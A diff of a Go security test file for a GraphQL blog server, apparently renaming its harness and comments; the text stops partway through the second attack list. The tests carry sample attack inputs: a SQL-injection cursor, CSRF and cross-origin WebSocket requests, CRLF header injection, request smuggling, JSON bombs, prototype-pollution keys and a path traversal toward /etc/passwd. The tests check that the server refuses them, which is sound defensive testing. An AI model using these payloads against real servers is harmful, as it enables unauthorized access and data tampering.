@@ -20,19 +20,19 @@ import (
 	"byline/store/blog"
 )
 
-// fortress is a blog behind a real server and a real provider. ada and grace wrote what
-// is in it; mallory is signed in, too.
-type fortress struct {
+// attackTest is a blog behind an HTTP server and an OpenID Connect provider. ada and grace wrote its items; mallory is
+// signed in, too.
+type attackTest struct {
 	*testBlog
 	t        *testing.T
 	server   *httptest.Server
 	provider *oidctest.Provider
-	mallory  string // a good token
+	mallory  string // a valid token
 }
 
-func newFortress(t *testing.T) *fortress {
+func newAttackTest(t *testing.T) *attackTest {
 	p := oidctest.New(t)
-	f := &fortress{t: t, provider: p, mallory: p.Token(t, map[string]any{"sub": "mallory"})}
+	f := &attackTest{t: t, provider: p, mallory: p.Token(t, map[string]any{"sub": "mallory"})}
 	f.testBlog = smallBlog(t, Options{Verifier: verifierOf(t, p), Logger: secrettest.Logger()})
 	f.server = httptest.NewServer(f.testBlog)
 	t.Cleanup(f.server.Close)
@@ -43,26 +43,25 @@ func newFortress(t *testing.T) *fortress {
 	return f
 }
 
-// attack is a request and what must become of it: the code of the error that it is
-// answered with or, where it does not get as far as to GraphQL, the HTTP status. With
-// neither it must be answered as if it were harmless, because it is.
+// attack is a request and its expected outcome: the code of the error or, if the request does not reach GraphQL, the
+// HTTP status. Without either, the request is harmless and must succeed.
 type attack struct {
 	token     string
 	query     string
 	variables any
-	body      string // instead of query and variables; may be no JSON
+	body      string // instead of query and variables; may be invalid JSON
 	method    string // POST if empty
 	target    string // /graphql if empty
 	header    map[string]string
-	raw       string // instead of everything: bytes of a connection, in which \n is a line end
+	raw       string // instead of all of the above: the bytes to send, with \n for CRLF
 
 	code   string
 	status int
-	data   string // if set, what is answered
+	data   string // if set, the expected data
 }
 
-// send sends the request, in which <post:moths> and its like stand for global ids.
-func (f *fortress) send(a attack) answer {
+// send sends the request. Placeholders such as <post:moths> stand for global ids.
+func (f *attackTest) send(a attack) testResponse {
 	f.t.Helper()
 	if a.raw != "" {
 		return f.sendRaw(strings.ReplaceAll(a.raw, "\n", "\r\n"))
@@ -101,12 +100,12 @@ func (f *fortress) send(a attack) answer {
 	return f.read(response)
 }
 
-// filled is fill for JSON, which has other forms of < and >.
-func (f *fortress) filled(body string) string {
+// filled is fill for JSON, in which < and > are escaped.
+func (f *attackTest) filled(body string) string {
 	return f.fill(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">").Replace(body))
 }
 
-func (f *fortress) sendRaw(raw string) answer {
+func (f *attackTest) sendRaw(raw string) testResponse {
 	f.t.Helper()
 	c, err := net.Dial("tcp", f.server.Listener.Addr().String())
 	if err != nil {
@@ -126,25 +125,25 @@ func (f *fortress) sendRaw(raw string) answer {
 	return f.read(response)
 }
 
-func (f *fortress) read(response *http.Response) answer {
+func (f *attackTest) read(res *http.Response) testResponse {
 	f.t.Helper()
-	defer response.Body.Close()
-	body, err := io.ReadAll(response.Body)
+	defer res.Body.Close()
+	body, err := io.ReadAll(res.Body)
 	if err != nil {
 		f.t.Fatal(err)
 	}
 	secrettest.Look(body)
-	a := answer{status: response.StatusCode, header: response.Header, body: string(body)}
-	if strings.Contains(response.Header.Get("Content-Type"), "json") {
+	a := testResponse{status: res.StatusCode, header: res.Header, body: string(body)}
+	if strings.Contains(res.Header.Get("Content-Type"), "json") {
 		if err := json.Unmarshal(body, &a); err != nil {
-			f.t.Fatalf("answer %q: %v", body, err)
+			f.t.Fatalf("response %q: %v", body, err)
 		}
 	}
 	return a
 }
 
-// everything is all that anybody can read of what ada and grace wrote.
-func (f *fortress) everything() string {
+// everything returns the public data of ada and grace, and of their posts, comments and likes.
+func (f *attackTest) everything() string {
 	f.t.Helper()
 	const of = `id username posts { edges { node { id title content version updatedAt commentCount likeCount author { id username }
 		comments { edges { node { id content updatedAt author { username } } } } likes { edges { node { id user { username } } } } } } }`
@@ -155,8 +154,8 @@ func (f *fortress) everything() string {
 	return string(a.Data)
 }
 
-// run tries all attacks, and finds that none has changed anything.
-func (f *fortress) run(t *testing.T, attacks map[string]attack) {
+// run sends each attack, and checks its outcome and that the blog is unchanged.
+func (f *attackTest) run(t *testing.T, attacks map[string]attack) {
 	before := f.everything()
 	for name, attack := range attacks {
 		t.Run(name, func(t *testing.T) {
@@ -171,27 +170,27 @@ func (f *fortress) run(t *testing.T, attacks map[string]attack) {
 				t.Errorf("status %d, want %d: %.500s", a.status, attack.status, a.body)
 			case attack.status == 0 && a.code() != attack.code:
 				t.Errorf("code %q, want %q: %.500s", a.code(), attack.code, a.body)
-			case a.code() != "" && !nothing(t, a.Data):
-				t.Errorf("refused, and answered: %.500s", a.body)
+			case a.code() != "" && !allNull(t, a.Data):
+				t.Errorf("refused, but has data: %.500s", a.body)
 			case attack.data != "" && string(a.Data) != attack.data:
 				t.Errorf("data %.500s, want %s", a.Data, attack.data)
 			case attack.code == "UNAUTHENTICATED" && a.status != http.StatusUnauthorized:
-				t.Errorf("status %d", a.status)
+				t.Errorf("status %d, want 401", a.status)
 			}
 			for name := range a.header {
 				if name == "X-Injected" || name == "Set-Cookie" || strings.HasPrefix(name, "Access-Control-Allow") {
-					t.Errorf("the answer has the header %s", name)
+					t.Errorf("unexpected header %s", name)
 				}
 			}
 			if after := inner.everything(); after != before {
-				t.Fatalf("the blog has changed:\n%s\n%s", before, after)
+				t.Fatalf("the blog has changed:\nbefore %s\nafter  %s", before, after)
 			}
 		})
 	}
 }
 
-// nothing reports whether data, of an answer, holds no value at all.
-func nothing(t *testing.T, data json.RawMessage) bool {
+// allNull reports whether data is absent or has no non-null field.
+func allNull(t *testing.T, data json.RawMessage) bool {
 	t.Helper()
 	if data == nil {
 		return true
@@ -208,9 +207,9 @@ func nothing(t *testing.T, data json.RawMessage) bool {
 	return true
 }
 
-// What somebody who is signed in tries on what belongs to others.
-func TestAttacksOnWhatBelongsToOthers(t *testing.T) {
-	f := newFortress(t)
+// A signed-in user tries to change or forge items of other users.
+func TestAttacks_OtherUsersItems(t *testing.T) {
+	f := newAttackTest(t)
 	m := func(query string, variables map[string]any, code string) attack {
 		return attack{token: f.mallory, query: query, variables: variables, code: code}
 	}
@@ -225,21 +224,21 @@ func TestAttacksOnWhatBelongsToOthers(t *testing.T) {
 	)
 	moths := f.postID(t, "moths")
 	attacks := map[string]attack{
-		"another's post: update":                 m(updatePost, id("<post:moths>"), "FORBIDDEN"),
-		"another's post: delete":                 m(deletePost, id("<post:moths>"), "FORBIDDEN"),
-		"another's comment: update":              m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
-		"another's comment: delete":              m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
-		"another's like: unlike":                 m(`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
-		"another's profile: take the name":       m(`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
-		"another's profile: name a user":         m(`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil, "GRAPHQL_VALIDATION_FAILED"),
-		"another's profile: in a variable":       m(`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`, map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
-		"another's profile: create it again":     m(`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
-		"another's name: write under it":         m(`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`, map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}}, "BAD_USER_INPUT"),
-		"a moderator by a variable":              m(`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`, map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
-		"many mutations, one of them on another": m(`mutation { a: updateUser(input: {username: "mallory"}) { user { id } } b: deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, nil, "FORBIDDEN"),
-		"mutation hidden in a fragment":          {query: `mutation { ...F } fragment F on Mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, code: "UNAUTHENTICATED"},
+		"another's post: update":                   m(updatePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's post: delete":                   m(deletePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's comment: update":                m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's comment: delete":                m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's like: unlike":                   m(`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
+		"another's profile: take the name":         m(`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's profile: name a user":           m(`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil, "GRAPHQL_VALIDATION_FAILED"),
+		"another's profile: in a variable":         m(`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`, map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
+		"another's profile: create it again":       m(`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's name: create a post under it":   m(`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`, map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}}, "BAD_USER_INPUT"),
+		"moderator flag in a variable":             m(`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`, map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
+		"several mutations, one on another's post": m(`mutation { a: updateUser(input: {username: "mallory"}) { user { id } } b: deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, nil, "FORBIDDEN"),
+		"mutation hidden in a fragment":            {query: `mutation { ...F } fragment F on Mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, code: "UNAUTHENTICATED"},
 
-		"forged id: of nothing":                m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
+		"forged id: malformed":                 m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
 		"forged id: an unknown post":           m(deletePost, id(postGlobalID("absent")), "NOT_FOUND"),
 		"forged id: a comment in another post": m(deleteComment, id(commentGlobalID(&blog.Comment{PostID: f.postID(t, "notes"), ID: moths})), "NOT_FOUND"),
 		"forged id: a post as its own comment": m(deleteComment, id(commentGlobalID(&blog.Comment{PostID: moths, ID: moths})), "NOT_FOUND"),
@@ -260,7 +259,7 @@ func TestAttacksOnWhatBelongsToOthers(t *testing.T) {
 		"of a user's posts": cursorOf(t, f.testBlog, `{ user(id: "<user:ada>") { posts { edges { cursor } } } }`),
 		"of comments":       cursorOf(t, f.testBlog, `{ post(id: "<post:moths>") { comments { edges { cursor } } } }`),
 		"of likes":          cursorOf(t, f.testBlog, `{ post(id: "<post:moths>") { likes { edges { cursor } } } }`),
-		"of nothing":        "bm9uc2Vuc2U",
+		"of nonsense":       "bm9uc2Vuc2U",
 		"of SQL":            "' OR 1=1 --",
 	}
 	for name, cursor := range cursors {
@@ -270,9 +269,9 @@ func TestAttacksOnWhatBelongsToOthers(t *testing.T) {
 	f.run(t, attacks)
 }
 
-// Malformed requests.
-func TestAttacksByRequests(t *testing.T) {
-	f := newFortress(t)
+// Malformed, cross-site and oversized requests are refused.
+func TestAttacks_MalformedRequests(t *testing.T) {
+	f := newAttackTest(t)
 	const mutation = `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\"}) { post { id } } }"}`
 	const nodes = `{"query":"query($ids: [ID!]!) { nodes(ids: $ids) { id } }","variables":`
 	plain := `{"query":"{ __typename }"}`
@@ -285,76 +284,76 @@ func TestAttacksByRequests(t *testing.T) {
 	}
 	deep := func(n int, open, end string) string { return strings.Repeat(open, n) + strings.Repeat(end, n) }
 	f.run(t, map[string]attack{
-		"cross-site POST":                        crossSite(from("https://evil.example", "cross-site", "application/json"), "FORBIDDEN"),
-		"cross-site POST, by Origin alone":       crossSite(from("https://evil.example", "", "application/json"), "FORBIDDEN"),
-		"cross-site POST of no origin":           crossSite(from("null", "cross-site", "application/json"), "FORBIDDEN"),
-		"cross-site POST of a sibling":           crossSite(from("https://other.localhost", "same-site", "application/json"), "FORBIDDEN"),
-		"a form's POST as text":                  crossSite(from(f.server.URL, "same-origin", "text/plain"), "BAD_USER_INPUT"),
-		"a form's POST":                          crossSite(from(f.server.URL, "same-origin", "application/x-www-form-urlencoded"), "BAD_USER_INPUT"),
-		"a form's POST with a file":              crossSite(from(f.server.URL, "same-origin", "multipart/form-data; boundary=x"), "BAD_USER_INPUT"),
-		"a mutation by GET":                      {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`), code: "BAD_USER_INPUT"},
-		"a mutation by a link to an image":       {method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"Sec-Fetch-Site": "cross-site", "Accept": "image/*"}, code: "BAD_USER_INPUT"},
-		"another method by a header":             {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"X-HTTP-Method-Override": "POST"}, code: "BAD_USER_INPUT"},
-		"cross-site WebSocket":                   {method: "GET", header: upgrade("https://evil.example"), status: http.StatusForbidden},
-		"cross-site WebSocket of no origin":      {method: "GET", header: upgrade("null"), status: http.StatusForbidden},
-		"cross-site WebSocket of a like name":    {method: "GET", header: upgrade(f.server.URL + ".evil.example"), status: http.StatusForbidden},
-		"CORS preflight":                         {method: "OPTIONS", header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}, status: http.StatusMethodNotAllowed},
-		"header injection by the request id":     {raw: raw("X-Request-Id: a%0d%0aX-Injected: 1"), status: 200},
-		"header injection by a line end":         {raw: raw("X-Request-Id: a\nX-Injected: 1"), status: 200},
-		"header injection by a bare CR":          {raw: raw("X-Request-Id: a\rX-Injected: 1"), status: 400},
-		"header injection by NUL":                {raw: raw("X-Request-Id: a\x00b"), status: 400},
-		"header injection by folding":            {raw: raw("X-Request-Id: a\n X-Injected: 1"), status: 200},
-		"header injection by the token":          {raw: raw("Authorization: Bearer a%0d%0aX-Injected: 1"), status: 200},
-		"header injection by a name":             {raw: raw("X-Request Id: a"), status: 400},
-		"two lengths":                            {raw: raw("Content-Length: 5"), status: 400},
-		"two ends of the body":                   {raw: raw("Transfer-Encoding: chunked"), code: "BAD_USER_INPUT"},
-		"an end of the body that nobody knows":   {raw: raw("Transfer-Encoding: chunked, identity"), status: http.StatusNotImplemented},
-		"two hosts":                              {raw: raw("Host: evil.example"), status: 400},
-		"a huge header":                          {raw: raw("X-A: " + strings.Repeat("a", 1<<21)), status: 431},
-		"JSON bomb: arrays":                      {body: nodes + deep(100_000, "[", "]") + "}", code: "BAD_USER_INPUT"},
-		"JSON bomb: objects":                     {body: nodes + `{"ids":` + deep(50_000, `{"a":`, "}") + "}}", code: "BAD_USER_INPUT"},
-		"JSON bomb: lists as an id":              {body: nodes + `{"ids":` + deep(5_000, "[", "]") + "}}", code: "BAD_USER_INPUT"},
-		"JSON bomb: in extensions":               {body: `{"query":"{ __typename }","extensions":` + deep(100_000, `{"a":[`, "]}") + "}", code: "BAD_USER_INPUT"},
-		"JSON bomb: never closed":                {body: strings.Repeat("[", 500_000), code: "BAD_USER_INPUT"},
-		"JSON bomb: a huge number":               {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":1e999999999}}`, code: "BAD_USER_INPUT"},
-		"JSON bomb: a number of 500,000 digits":  {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":` + strings.Repeat("9", 500_000) + `}}`, code: "BAD_USER_INPUT"},
-		"JSON bomb: 100,000 names":               {body: `{"query":"{ __typename }","variables":{"a":1` + strings.Repeat(`,"a":1`, 100_000) + `}}`, data: `{"__typename":"Query"}`},
-		"JSON bomb: 10 MB":                       {body: `{"query":"` + strings.Repeat(" ", 10<<20) + `"}`, code: "BAD_USER_INPUT"},
-		"JSON: two values":                       {body: plain + plain, code: "BAD_USER_INPUT"},
-		"JSON: a list of operations":             {body: "[" + plain + "," + plain + "]", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in a variable":            {token: f.mallory, body: "{\"query\":\"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }\",\"variables\":{\"t\":\"a\xffb\"}}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the document":          {token: f.mallory, body: "{\"query\":\"mutation { createPost(input: {title: \\\"a\xc3\\\", content: \\\"c\\\"}) { post { id } } }\"}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in a name":                {body: "{\"query\":\"{ __typename }\",\"\xff\":1}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8: overlong":                {body: "{\"query\":\"{ userByUsername(username: \\\"\xc0\xaf\\\") { id } }\"}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the URL":               {method: "GET", target: `/graphql?query={userByUsername(username:"%ff"){id}}`, code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the URL's variables":   {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"%ff"}`, code: "BAD_USER_INPUT"},
-		"an unpaired surrogate in a variable":    {token: f.mallory, body: `{"query":"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }","variables":{"t":"a\ud800b"}}`, code: "BAD_USER_INPUT"},
-		"an unpaired surrogate in the document":  {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"a\\ud800b\", content: \"c\"}) { post { id } } }"}`, code: "BAD_USER_INPUT"},
-		"an unpaired surrogate in the URL":       {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"\udfff"}`, code: "BAD_USER_INPUT"},
-		"another character set":                  {body: plain, header: map[string]string{"Content-Type": "application/json; charset=utf-7"}, code: "BAD_USER_INPUT"},
-		"UTF-16":                                 {body: "\xff\xfe{\x00}\x00", code: "BAD_USER_INPUT"},
-		"NUL in the body":                        {body: "{\"query\":\"{ __typename\x00 }\"}", code: "BAD_USER_INPUT"},
-		"NUL in the document":                    {body: `{"query":"{ __typename\u0000 }"}`, code: "GRAPHQL_PARSE_FAILED"},
-		"NUL after the body":                     {body: plain + "\x00", code: "BAD_USER_INPUT"},
-		"NUL in the URL":                         {method: "GET", target: "/graphql?query={__typename}%00", code: "GRAPHQL_PARSE_FAILED"},
-		"NUL in the path":                        {method: "GET", target: "/graphql%00", status: 404},
-		"up from the path":                       {method: "GET", target: "/graphql/..%2f..%2fetc%2fpasswd", status: 404},
-		"prototype-like: a key of the body":      {body: `{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: a variable":             {body: `{"query":"{ __typename }","variables":{"__proto__":{"moderator":true}}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: in an input":            {token: f.mallory, body: `{"query":"mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }","variables":{"i":{"title":"t","content":"c","__proto__":{"authorId":"x"}}}}`, code: "BAD_USER_INPUT"},
-		"prototype-like: a type of input":        {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\", constructor: 1}) { post { id } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: an extension":           {body: `{"query":"{ __typename }","extensions":{"__proto__":{"persistedQuery":1},"persistedQuery":null}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: a persisted operation":  {body: `{"documentId":"__proto__"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
-		"prototype-like: an operation":           {body: `{"query":"query a { __typename }","operationName":"__proto__"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: a field":                {body: `{"query":"{ __proto__ }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: an id":                  {body: `{"query":"{ node(id: \"__proto__\") { id } }"}`, code: "BAD_USER_INPUT"},
-		"prototype-like: a user":                 {body: `{"query":"{ userByUsername(username: \"__proto__\") { id } }"}`, data: `{"userByUsername":null}`},
-		"a token in the URL":                     {method: "POST", target: "/graphql?access_token=" + f.mallory, body: mutation, code: "UNAUTHENTICATED"},
-		"a token in a cookie":                    {body: mutation, header: map[string]string{"Cookie": "Authorization=Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
-		"a token for a proxy":                    {body: mutation, header: map[string]string{"Proxy-Authorization": "Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
-		"somebody by the headers of a proxy":     {body: mutation, header: map[string]string{"X-Forwarded-User": "ada", "X-Remote-User": "ada"}, code: "UNAUTHENTICATED"},
-		"the schema":                             {body: `{"query":"{ __schema { types { name } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"a file of the server by the playground": {method: "GET", target: "/", status: 404},
+		"cross-site POST":                            crossSite(from("https://evil.example", "cross-site", "application/json"), "FORBIDDEN"),
+		"cross-site POST, by Origin alone":           crossSite(from("https://evil.example", "", "application/json"), "FORBIDDEN"),
+		"cross-site POST, null origin":               crossSite(from("null", "cross-site", "application/json"), "FORBIDDEN"),
+		"same-site POST of another host":             crossSite(from("https://other.localhost", "same-site", "application/json"), "FORBIDDEN"),
+		"a form's POST as text":                      crossSite(from(f.server.URL, "same-origin", "text/plain"), "BAD_USER_INPUT"),
+		"a form's POST":                              crossSite(from(f.server.URL, "same-origin", "application/x-www-form-urlencoded"), "BAD_USER_INPUT"),
+		"a form's POST with a file":                  crossSite(from(f.server.URL, "same-origin", "multipart/form-data; boundary=x"), "BAD_USER_INPUT"),
+		"a mutation by GET":                          {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`), code: "BAD_USER_INPUT"},
+		"a mutation by a link to an image":           {method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"Sec-Fetch-Site": "cross-site", "Accept": "image/*"}, code: "BAD_USER_INPUT"},
+		"method override by a header":                {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"X-HTTP-Method-Override": "POST"}, code: "BAD_USER_INPUT"},
+		"cross-site WebSocket":                       {method: "GET", header: upgrade("https://evil.example"), status: http.StatusForbidden},
+		"cross-site WebSocket, null origin":          {method: "GET", header: upgrade("null"), status: http.StatusForbidden},
+		"cross-site WebSocket, own origin as prefix": {method: "GET", header: upgrade(f.server.URL + ".evil.example"), status: http.StatusForbidden},
+		"CORS preflight":                             {method: "OPTIONS", header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}, status: http.StatusMethodNotAllowed},
+		"header injection by the request id":         {raw: raw("X-Request-Id: a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a line end":             {raw: raw("X-Request-Id: a\nX-Injected: 1"), status: 200},
+		"header injection by a bare CR":              {raw: raw("X-Request-Id: a\rX-Injected: 1"), status: 400},
+		"header injection by NUL":                    {raw: raw("X-Request-Id: a\x00b"), status: 400},
+		"header injection by folding":                {raw: raw("X-Request-Id: a\n X-Injected: 1"), status: 200},
+		"header injection by the token":              {raw: raw("Authorization: Bearer a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a name":                 {raw: raw("X-Request Id: a"), status: 400},
+		"two lengths":                                {raw: raw("Content-Length: 5"), status: 400},
+		"Content-Length and Transfer-Encoding":       {raw: raw("Transfer-Encoding: chunked"), code: "BAD_USER_INPUT"},
+		"unknown Transfer-Encoding":                  {raw: raw("Transfer-Encoding: chunked, identity"), status: http.StatusNotImplemented},
+		"two hosts":                                  {raw: raw("Host: evil.example"), status: 400},
+		"a huge header":                              {raw: raw("X-A: " + strings.Repeat("a", 1<<21)), status: 431},
+		"JSON bomb: arrays":                          {body: nodes + deep(100_000, "[", "]") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: objects":                         {body: nodes + `{"ids":` + deep(50_000, `{"a":`, "}") + "}}", code: "BAD_USER_INPUT"},
+		"JSON bomb: lists as an id":                  {body: nodes + `{"ids":` + deep(5_000, "[", "]") + "}}", code: "BAD_USER_INPUT"},
+		"JSON bomb: in extensions":                   {body: `{"query":"{ __typename }","extensions":` + deep(100_000, `{"a":[`, "]}") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: never closed":                    {body: strings.Repeat("[", 500_000), code: "BAD_USER_INPUT"},
+		"JSON bomb: a huge number":                   {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":1e999999999}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: a number of 500,000 digits":      {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":` + strings.Repeat("9", 500_000) + `}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: 100,000 names":                   {body: `{"query":"{ __typename }","variables":{"a":1` + strings.Repeat(`,"a":1`, 100_000) + `}}`, data: `{"__typename":"Query"}`},
+		"JSON bomb: 10 MB":                           {body: `{"query":"` + strings.Repeat(" ", 10<<20) + `"}`, code: "BAD_USER_INPUT"},
+		"JSON: two values":                           {body: plain + plain, code: "BAD_USER_INPUT"},
+		"JSON: a list of operations":                 {body: "[" + plain + "," + plain + "]", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a variable":                {token: f.mallory, body: "{\"query\":\"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }\",\"variables\":{\"t\":\"a\xffb\"}}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the document":              {token: f.mallory, body: "{\"query\":\"mutation { createPost(input: {title: \\\"a\xc3\\\", content: \\\"c\\\"}) { post { id } } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a name":                    {body: "{\"query\":\"{ __typename }\",\"\xff\":1}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8: overlong":                    {body: "{\"query\":\"{ userByUsername(username: \\\"\xc0\xaf\\\") { id } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL":                   {method: "GET", target: `/graphql?query={userByUsername(username:"%ff"){id}}`, code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL's variables":       {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"%ff"}`, code: "BAD_USER_INPUT"},
+		"an unpaired surrogate in a variable":        {token: f.mallory, body: `{"query":"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }","variables":{"t":"a\ud800b"}}`, code: "BAD_USER_INPUT"},
+		"an unpaired surrogate in the document":      {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"a\\ud800b\", content: \"c\"}) { post { id } } }"}`, code: "BAD_USER_INPUT"},
+		"an unpaired surrogate in the URL":           {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"\udfff"}`, code: "BAD_USER_INPUT"},
+		"another character set":                      {body: plain, header: map[string]string{"Content-Type": "application/json; charset=utf-7"}, code: "BAD_USER_INPUT"},
+		"UTF-16":                                     {body: "\xff\xfe{\x00}\x00", code: "BAD_USER_INPUT"},
+		"NUL in the body":                            {body: "{\"query\":\"{ __typename\x00 }\"}", code: "BAD_USER_INPUT"},
+		"NUL in the document":                        {body: `{"query":"{ __typename\u0000 }"}`, code: "GRAPHQL_PARSE_FAILED"},
+		"NUL after the body":                         {body: plain + "\x00", code: "BAD_USER_INPUT"},
+		"NUL in the URL":                             {method: "GET", target: "/graphql?query={__typename}%00", code: "GRAPHQL_PARSE_FAILED"},
+		"NUL in the path":                            {method: "GET", target: "/graphql%00", status: 404},
+		"path traversal":                             {method: "GET", target: "/graphql/..%2f..%2fetc%2fpasswd", status: 404},
+		"prototype-like: a key of the body":          {body: `{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a variable":                 {body: `{"query":"{ __typename }","variables":{"__proto__":{"moderator":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: in an input":                {token: f.mallory, body: `{"query":"mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }","variables":{"i":{"title":"t","content":"c","__proto__":{"authorId":"x"}}}}`, code: "BAD_USER_INPUT"},
+		"prototype-like: a type of input":            {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\", constructor: 1}) { post { id } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an extension":               {body: `{"query":"{ __typename }","extensions":{"__proto__":{"persistedQuery":1},"persistedQuery":null}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a persisted operation":      {body: `{"documentId":"__proto__"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
+		"prototype-like: an operation":               {body: `{"query":"query a { __typename }","operationName":"__proto__"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: a field":                    {body: `{"query":"{ __proto__ }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an id":                      {body: `{"query":"{ node(id: \"__proto__\") { id } }"}`, code: "BAD_USER_INPUT"},
+		"prototype-like: a user":                     {body: `{"query":"{ userByUsername(username: \"__proto__\") { id } }"}`, data: `{"userByUsername":null}`},
+		"a token in the URL":                         {method: "POST", target: "/graphql?access_token=" + f.mallory, body: mutation, code: "UNAUTHENTICATED"},
